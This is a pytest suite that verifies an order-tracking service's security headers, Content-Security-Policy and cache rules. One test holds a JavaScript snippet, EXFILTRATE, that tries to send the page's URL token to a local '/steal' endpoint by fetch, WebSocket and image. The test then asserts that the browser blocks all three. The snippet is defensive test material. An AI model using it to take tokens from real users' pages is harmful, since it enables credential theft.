"""The pages carry their token in the address: they never send it on (Referer), cannot be framed,
run only the scripts the server ships, and reach nothing but their own server."""
from __future__ import annotations

import asyncio
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser, expect

from tests.orders_helpers import Ops
from tests.test_pages import browser, new_page  # noqa: F401 - the module's Chromium fixture
from tracker.launcher import ServerProcess


@pytest.mark.parametrize("path", ["/track/o1", "/merchant", "/ops"])
def test_pages_send_security_headers(server: ServerProcess, path: str) -> None:
    r = httpx.get(f"{server.base_url}{path}?token=whatever")
    assert r.status_code == 200
    assert r.headers.get("referrer-policy") == "no-referrer"
    assert r.headers.get("x-content-type-options") == "nosniff"
    assert r.headers.get("x-frame-options") == "DENY"
    csp = {d.strip().split()[0]: d.strip() for d in r.headers.get("content-security-policy", "").split(";") if d.strip()}
    assert csp.get("frame-ancestors") == "frame-ancestors 'none'", csp
    assert csp.get("script-src") == "script-src 'self'", csp
    assert csp.get("object-src") == "object-src 'none'", csp
    assert csp.get("base-uri") == "base-uri 'none'", csp
    assert csp.get("default-src") == "default-src 'none'", csp  # (fonts, frames, workers, media: none)
    assert csp.get("connect-src") == "connect-src 'self'", csp
    assert csp.get("img-src") == "img-src 'self' data:", csp  # (no tile server configured)


@pytest.mark.parametrize("tiles, source", [
    ("https://tiles.example.org:8443/{z}/{x}/{y}.png", "https://tiles.example.org:8443"),
    ("//tiles.example.org/{z}/{x}/{y}.png", "tiles.example.org"),  # (the page's own scheme: its tiles were blocked)
    ("http://[::1]:8080/{z}/{x}/{y}.png", "http:"),  # (no CSP source names an IPv6 address: Chromium dropped it)
])
def test_the_tile_server_is_the_one_other_place_pages_load_images_from(start_server, tiles: str, source: str) -> None:  # type: ignore[no-untyped-def]
    srv = start_server({"TRACKER_TILE_URL": tiles})
    r = httpx.get(f"{srv.base_url}/ops?token=whatever")
    csp = {d.strip().split()[0]: d.strip() for d in r.headers["content-security-policy"].split(";")}
    assert csp["img-src"] == f"img-src 'self' data: {source}", csp
    assert csp["connect-src"] == "connect-src 'self'", csp


@pytest.mark.parametrize("raw", ["%E0%A4", "%2E%2E", "%2E", "o%201", "o" * 65])
def test_a_tracking_address_that_cannot_name_an_order_is_a_plain_404(server: ServerProcess, raw: str) -> None:
    """Not the page: its script could never read such an id (%E0%A4 is no UTF-8: it stayed on
    "Loading..." for good; ".." the browser would resolve away)."""
    r = httpx.get(f"{server.base_url}/track/{raw}?token=whatever")
    assert r.status_code == 404, r.text
    assert r.headers["content-type"].startswith("application/json"), r.headers
    error = r.json()["error"]
    assert error["code"] == "not_found" and "order ids are 1-64 characters" in error["message"], error


# In the page: try to send data to another origin by fetch, WebSocket and image; say what the
# browser reported as blocked (securitypolicyviolation events, by directive).
EXFILTRATE = """async (port) => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (e) => blocked.push(e.effectiveDirective));
  const elsewhere = `127.0.0.1:${port}/steal?token=` + encodeURIComponent(location.search);
  await fetch(`http://${elsewhere}`, { mode: "no-cors" }).catch(() => null);
  await new Promise((done) => { const ws = new WebSocket(`ws://${elsewhere}`); ws.onerror = ws.onclose = done; })
    .catch(() => null);
  await new Promise((done) => { const img = new Image(); img.onload = img.onerror = done; img.src = `http://${elsewhere}`; });
  await new Promise((done) => setTimeout(done, 0));  // (violation events are queued as tasks)
  return blocked;
}"""


async def test_a_script_in_a_page_cannot_send_anything_to_another_origin(server: ServerProcess, uid, browser: Browser) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    """The CSP lets the page's own fetches and WebSocket through, and nothing to elsewhere."""
    visits: list[bytes] = []

    async def listener(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        visits.append(await reader.read(1024))  # (counted on arrival: before any answer could settle the page's call)
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok")
        await writer.drain()
        writer.close()

    other = await asyncio.start_server(listener, "127.0.0.1", 0)
    port = other.sockets[0].getsockname()[1]
    ops = Ops(server)
    oid = uid("o")
    page = await new_page(browser)
    blocked_at_load: list[Any] = []
    page.on("console", lambda m: blocked_at_load.append(m.text) if "Content Security Policy" in m.text else None)
    try:
        assert (await ops.create(oid, uid("m"))).status_code == 201
        await page.goto(f"{server.base_url}/track/{oid}?token={server.token('customer', oid)}")
        await expect(page.locator("#status")).to_have_attribute("data-status", "placed")  # its own socket and fetches work
        blocked = await page.evaluate(EXFILTRATE, port)
        assert visits == [], visits
        assert sorted(blocked) == ["connect-src", "connect-src", "img-src"], blocked
        assert not [m for m in blocked_at_load if "127.0.0.1:" + str(port) not in m], blocked_at_load  # (the page's own: none)
    finally:
        await page.context.close()
        await ops.close()
        other.close()


async def test_api_answers_and_errors_carry_nosniff(server: ServerProcess, uid) -> None:  # type: ignore[no-untyped-def]
    """JSON is read as JSON, never sniffed as HTML: the API, its errors and the static files alike."""
    headers = {"Authorization": "Bearer " + server.token("operator", "ops")}
    async with httpx.AsyncClient(base_url=server.base_url, timeout=10.0) as http:
        answers = [await http.get("/healthz"), await http.get(f"/v1/orders/{uid('o')}", headers=headers),
                   await http.get("/v1/orders/o1"), await http.get("/nowhere"), await http.post("/healthz"),
                   await http.get("/v1/ws/rider"), await http.get("/static/common.js")]
    for r in answers:
        assert r.headers.get_list("x-content-type-options") == ["nosniff"], (r.url, r.status_code, r.headers)


async def test_api_answers_and_errors_are_never_stored_by_a_cache(server: ServerProcess, uid) -> None:  # type: ignore[no-untyped-def]
    """One token's view (an order, an error given to that token) is not kept by a browser or a
    shared cache for the next caller of the address; the static files stay cacheable."""
    own = {"X-Tracker-Token": server.token("operator", "ops")}
    async with httpx.AsyncClient(base_url=server.base_url, timeout=10.0) as http:
        created = await http.post("/v1/orders", headers=own, json={
            "id": uid("o"), "merchant_id": uid("m"), "pickup": {"lat": 52.52, "lng": 13.405},
            "dropoff": {"lat": 52.53, "lng": 13.42}})
        answers = [created, await http.get(f"/v1/orders/{created.json()['id']}", headers=own),
                   await http.get("/v1/orders/o1"), await http.get("/nowhere"), await http.get("/healthz"),
                   await http.get("/readyz"), await http.get("/metrics"), await http.get("/v1/ws/rider")]
        static = await http.get("/static/common.js")
    for r in answers:
        assert r.headers.get_list("cache-control") == ["no-store"], (r.url, r.status_code, r.headers)
    assert static.status_code == 200 and "no-store" not in static.headers.get("cache-control", ""), static.headers
